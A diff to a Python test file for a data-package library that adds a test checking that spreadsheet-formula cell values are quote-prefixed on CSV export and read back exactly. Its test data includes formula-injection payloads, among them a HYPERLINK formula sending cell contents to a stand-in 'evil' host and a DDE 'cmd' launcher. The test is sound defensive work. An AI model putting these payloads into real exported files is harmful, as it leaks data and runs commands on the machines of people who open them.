@@ -10,7 +10,7 @@ from pathlib import Path
 import attrs
 import pandas as pd
 import pytest
-from inclusionkit_datapackage import DataPackage, build_datapackage
+from inclusionkit_datapackage import DataPackage, build_datapackage, read_csv_rows
 
 from inclusionkit import COLUMN_NAMES, InclusionKitError, compute, examples, progress
 
@@ -40,9 +40,8 @@ def package(dlm: examples.Example) -> DataPackage:
 
 
 def rows(package: DataPackage, name: str) -> list[dict[str, str]]:
-    """A resource as the CSV text a reader sees."""
-    text = package.table(name).csv_bytes().decode("utf-8")
-    return list(csv.DictReader(io.StringIO(text)))
+    """A resource's rows as text, read back as written (formula quotes removed)."""
+    return read_csv_rows(package.table(name).csv_bytes())
 
 
 def test_every_resource_is_there(package: DataPackage) -> None:
@@ -267,3 +266,28 @@ def test_a_given_report_is_published_as_it_is(dlm: examples.Example) -> None:
     given = build_datapackage(dlm.project, dlm.participations, report=report, suppress=5)
     computed = build_datapackage(dlm.project, dlm.participations, suppress=5)
     assert given.files() == computed.files()
+
+
+FORMULAS = ('=HYPERLINK("http://evil/?"&A1)', "@SUM(A1:A9)", "+cmd|' /C calc'!A0", "-1+2", "'=x")
+
+
+def test_formula_cells_are_neutralised_and_read_back_exactly() -> None:
+    """A text cell a spreadsheet would run (an activity's city, from a partner) is written with a
+    quote in front, by the library's one CSV writer; read_csv_rows gives the exact text back."""
+    assert len(examples.load("dialog-social").project.activities) >= len(FORMULAS)
+    example = examples.load("dialog-social")
+    activities = list(example.project.activities)
+    titles = [f"{formula} {i}" if i % 2 else formula for i, formula in enumerate(FORMULAS)]
+    for i, title in enumerate(titles):
+        activities[i] = attrs.evolve(activities[i], city=title)
+    project = attrs.evolve(example.project, activities=tuple(activities))
+    table = build_datapackage(project).table("activities")
+    text = table.csv_bytes().decode("utf-8")
+    cells = [cell for line in csv.reader(io.StringIO(text)) for cell in line]
+    for title in titles:
+        assert title not in cells
+        assert "'" + title in cells
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
+    read = {row["id"]: row["city"] for row in read_csv_rows(table.csv_bytes())}
+    for activity, title in zip(activities, titles, strict=False):
+        assert read[activity.id] == title
